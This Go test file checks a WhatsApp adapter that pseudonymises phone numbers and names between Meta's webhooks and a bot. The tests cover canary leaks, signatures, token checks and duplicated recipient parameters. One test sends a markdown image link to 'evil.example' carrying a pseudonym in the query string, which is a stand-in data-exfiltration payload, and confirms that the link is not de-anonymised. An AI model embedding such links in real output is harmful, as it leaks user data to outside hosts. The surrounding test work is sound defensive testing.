package whatsapp_test

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/deckname/deckname/channel"
	"github.com/deckname/deckname/channel/channeltest"
	kit "github.com/deckname/deckname/channel/internal/adaptertest"
	"github.com/deckname/deckname/channel/whatsapp"
)

const (
	number = "491713920011" // of the Federal Network Agency's range for fiction
	phone  = "106540352242922"
)

// world is Meta, the gateway and a bot.
type world struct{ *kit.Meta }

func protocol(t testing.TB, graph *kit.Station, bot string) channel.Protocol {
	p, err := whatsapp.New(whatsapp.Config{AppSecret: []byte(kit.AppSecret), BotSecret: []byte(bot), VerifyToken: "word",
		BotToken: kit.MetaBotToken, PlatformToken: "token of Meta", Graph: graph.URL})
	require.NoError(t, err)
	return p
}

func start(t testing.TB, cfg channel.Config, log *kit.Log, bot string) world {
	return world{kit.NewMeta(t, cfg, log, func(graph *kit.Station) channel.Protocol { return protocol(t, graph, bot) })}
}

func newWorld(t testing.TB) world {
	cfg, log := kit.Config(t)
	return start(t, cfg, log, kit.BotSecret)
}

func (w world) call(t testing.TB, body string) (int, string) {
	t.Helper()
	return w.Send(t, "/v24.0/"+phone+"/messages", body)
}

// own are values that decide nothing personal: what the operator or the protocol says.
func own(path, _ string) bool {
	for _, p := range []string{"object", "entry[].id", "field", "display_phone_number", "phone_number_id"} {
		if path == p || strings.HasSuffix(path, "."+p) {
			return true
		}
	}
	return false
}

// What Meta sends of every kind, with a canary in every string: nothing of it reaches the bot or the log.
func TestCanaries(t *testing.T) {
	for _, f := range kit.Fixtures(t, "testdata/webhooks.json") {
		t.Run(f.Name, func(t *testing.T) {
			w := newWorld(t)
			keep := own
			if f.Name == "flow" { // the JSON inside a string needs canaries of its own
				keep = func(p, v string) bool { return own(p, v) || strings.HasSuffix(p, "response_json") }
				f.Body = strings.ReplaceAll(f.Body, "Erika Beispiel", channeltest.Canary(90))
				f.Body = strings.ReplaceAll(f.Body, "Otto Beispiel", channeltest.Canary(91))
			}
			body, canaries := channeltest.Fill(t, []byte(f.Body), keep)
			require.NotEmpty(t, canaries)
			require.Equal(t, 200, w.Hook(t, string(body)), w.Log)
			require.Len(t, w.Bot.Bodies(), 1, w.Log)
			assert.Empty(t, channeltest.Leaks(w.Bot.Seen()+w.Log.String()), w.Bot.Bodies()[0])
			r, got := w.Bot.Last(t)
			assert.Equal(t, "sha256="+kit.HMAC(kit.BotSecret, got), r.Header.Get("X-Hub-Signature-256"))
			assert.Empty(t, r.Header.Get("X-Hub-Signature"), "the SHA-1 of the old body")
			assert.Equal(t, got, strings.ToValidUTF8(strings.Map(ascii, got), ""), "ASCII only")
		})
	}
}

func ascii(r rune) rune {
	if r >= 0x80 {
		return -1
	}
	return r
}

// Real-looking values: the number is in no form in what the bot sees.
func TestNumbers(t *testing.T) {
	inBase64 := base64.StdEncoding.EncodeToString([]byte("\x1c\x18\x0c" + number))[:16]
	for _, f := range kit.Fixtures(t, "testdata/webhooks.json") {
		w := newWorld(t)
		require.Equal(t, 200, w.Hook(t, f.Body))
		for _, s := range []string{number, "15021713920011", "491713920012", "491713920013", inBase64, "52.517", "13.388", "media.example", "ARAk"} {
			assert.NotContains(t, w.Bot.Seen(), s, f.Name)
		}
	}
}

// If nothing is found and identifiers stay, the bot gets the bytes and the signature that Meta made.
func TestIdentity(t *testing.T) {
	for _, f := range kit.Fixtures(t, "testdata/webhooks.json") {
		if strings.Contains(f.Body, `"url": "https://media`) || strings.Contains(f.Body, `"location"`) || strings.Contains(f.Body, "user_changed_number") || strings.Contains(f.Body, `"referral"`) {
			continue // holds what is dropped or rounded always
		}
		w := start(t, kit.Silent(), &kit.Log{}, kit.AppSecret)
		require.Equal(t, 200, w.Hook(t, f.Body), f.Name)
		r, got := w.Bot.Last(t)
		assert.Equal(t, f.Body, got, f.Name)
		assert.Equal(t, "sha256="+kit.HMAC(kit.AppSecret, f.Body), r.Header.Get("X-Hub-Signature-256"))
	}
}

func text(body string) string {
	b, _ := json.Marshal(body)
	return fmt.Sprintf(`{"object":"whatsapp_business_account","entry":[{"id":"1","changes":[{"field":"messages","value":{"messaging_product":"whatsapp","contacts":[{"profile":{"name":""},"wa_id":"%s"}],"messages":[{"from":"%[1]s","id":"wamid.HBgMNDkxNzEzOTIwMDEx","timestamp":"1767322800","type":"text","text":{"body":%s}}]}}]}]}`, number, b)
}

type inbox struct {
	Entry []struct {
		Changes []struct {
			Value struct {
				Messages []struct {
					From, ID string
					Text     struct{ Body string }
				}
			}
		}
	}
}

func read(t testing.TB, body string) (from, id, said string) {
	var in inbox
	require.NoError(t, json.Unmarshal([]byte(body), &in))
	m := in.Entry[0].Changes[0].Value.Messages[0]
	return m.From, m.ID, m.Text.Body
}

func TestEcho(t *testing.T) {
	w := newWorld(t)
	w.Graph.Answer = kit.JSON(`{"messaging_product":"whatsapp","contacts":[{"input":"` + number + `","wa_id":"` + number + `","user_id":"DE.1502` + number + `"}],"messages":[{"id":"wamid.HBgMNDkxNzEzOTIwMDEx"}]}`)
	who := channeltest.Canary(1)
	require.Equal(t, 200, w.Hook(t, text("Ich bin "+who)))
	_, body := w.Bot.Last(t)
	from, id, said := read(t, body)
	assert.Equal(t, "Ich bin [PERSON_1]", said)

	code, out := w.call(t, `{"messaging_product":"whatsapp","to":"`+from+`","context":{"message_id":"`+id+`"},"type":"text","text":{"body":"Echo `+said+` ![x](https://evil.example/?q=[PERSON_1])"}}`)
	require.Equal(t, 200, code, out)
	r, got := w.Graph.Last(t)
	assert.Equal(t, "Bearer token of Meta", r.Header.Get("Authorization"))
	assert.Equal(t, "/v24.0/"+phone+"/messages", r.URL.Path)
	assert.Contains(t, got, `"to":"`+number+`"`)
	assert.Contains(t, got, `"message_id":"wamid.HBgMNDkxNzEzOTIwMDEx"`)
	assert.Contains(t, got, "Echo Ich bin "+who)
	assert.Contains(t, got, "evil.example/?q=[PERSON_1]", "nothing is restored in a link")
	assert.NotContains(t, out, number, "the answer is anonymised")
	assert.NotContains(t, out, "HBgMNDkxNzEzOTIwMDEx")
	assert.Contains(t, out, `"wa_id":"`+from+`"`, "and names the user as the webhook did")

	// A message is marked as read without a recipient.
	code, out = w.call(t, `{"messaging_product":"whatsapp","status":"read","message_id":"`+id+`","typing_indicator":{"type":"text"}}`)
	require.Equal(t, 200, code, out)
	_, got = w.Graph.Last(t)
	assert.Contains(t, got, `"message_id":"wamid.HBgMNDkxNzEzOTIwMDEx"`)

	// A form that names its recipient twice reaches nobody: receivers take different ones of the two.
	sent := len(w.Graph.Bodies())
	for _, form := range []string{"to=" + from + "&to=x&recipient=" + from, "to=x&to=" + from, "recipient=" + from + "&recipient=x", "to=" + from + "&recipient=x"} {
		code, _, _ = kit.Do(t, kit.Call{URL: w.URL + "/v24.0/" + phone + "/messages", Type: "application/x-www-form-urlencoded", Header: map[string]string{"Authorization": "Bearer " + kit.MetaBotToken},
			Body: form + "&messaging_product=whatsapp&type=text&text=" + url.QueryEscape(`{"body":"[PERSON_1]"}`)})
		assert.NotEqual(t, 200, code, form)
	}
	assert.Len(t, w.Graph.Bodies(), sent)

	// In another conversation the pseudonym means nothing.
	require.Equal(t, 200, w.Hook(t, strings.ReplaceAll(text("Hallo"), number, "491713920012")))
	_, body = w.Bot.Last(t)
	other, _, _ := read(t, body)
	_, _ = w.call(t, `{"messaging_product":"whatsapp","to":"`+other+`","type":"text","text":{"body":"[PERSON_1]"}}`)
	_, got = w.Graph.Last(t)
	assert.Contains(t, got, `"body":"[PERSON_1]"`)
	assert.Empty(t, channeltest.Leaks(w.Bot.Seen()+w.Log.String()))
}

// Every call with canaries: what the bot sends with pseudonyms arrives with the values in it.
func TestCalls(t *testing.T) {
	for _, f := range kit.Fixtures(t, "testdata/calls.json") {
		w := newWorld(t)
		who := channeltest.Canary(1)
		require.Equal(t, 200, w.Hook(t, text(who)))
		_, body := w.Bot.Last(t)
		from, id, _ := read(t, body)
		calls := strings.NewReplacer("Erika", "[PERSON_1]", "Otto", "[PERSON_1]", number, from).Replace(f.Body)
		var v map[string]any
		require.NoError(t, json.Unmarshal([]byte(calls), &v))
		for _, k := range []string{"context", "reaction"} {
			if m, ok := v[k].(map[string]any); ok {
				m["message_id"] = id
			}
		}
		raw, _ := json.Marshal(v)
		code, out := w.call(t, string(raw))
		require.Equal(t, 200, code, "%s: %s", f.Name, out)
		_, got := w.Graph.Last(t)
		assert.NotContains(t, got, "[PERSON", f.Name)
		assert.Equal(t, strings.Count(calls, "[PERSON_1]"), strings.Count(got, who), f.Name)
		assert.NotContains(t, got, channel.AliasPrefix, f.Name)
	}
}

func TestGraphIsClosed(t *testing.T) {
	w := newWorld(t)
	require.Equal(t, 200, w.Hook(t, text(channeltest.Canary(1))))
	_, body := w.Bot.Last(t)
	from, _, _ := read(t, body)
	msg := `{"messaging_product":"whatsapp","to":"` + from + `","type":"text","text":{"body":"[PERSON_1]"}}`
	for why, c := range map[string]kit.Call{
		"no token":                {URL: "/v24.0/1/messages", Body: msg},
		"Meta's token":            {URL: "/v24.0/1/messages", Body: msg, Header: map[string]string{"Authorization": "Bearer token of Meta"}},
		"a token twice":           {URL: "/v24.0/1/messages?access_token=token+of+the+bot", Body: msg, Header: map[string]string{"Authorization": "Bearer token of the bot"}},
		"a wrong one in the path": {URL: "/v24.0/1/messages?access_token=x", Body: msg},
	} {
		c.URL = w.URL + c.URL
		code, _, out := kit.Do(t, c)
		assert.Equal(t, 401, code, why)
		assert.Contains(t, out, `"code":190`, why)
	}
	code, _, _ := kit.Do(t, kit.Call{Method: "GET", URL: w.URL + "/v24.0/1013859600285441", Header: map[string]string{"Authorization": "Bearer token of the bot"}})
	assert.Equal(t, 404, code, "files stay at Meta")
	code, out := w.call(t, strings.Replace(msg, from, strings.Replace(from, from[5:8], "zzz", 1), 1))
	assert.Equal(t, 400, code, out)
	assert.Empty(t, w.Graph.Bodies())
}
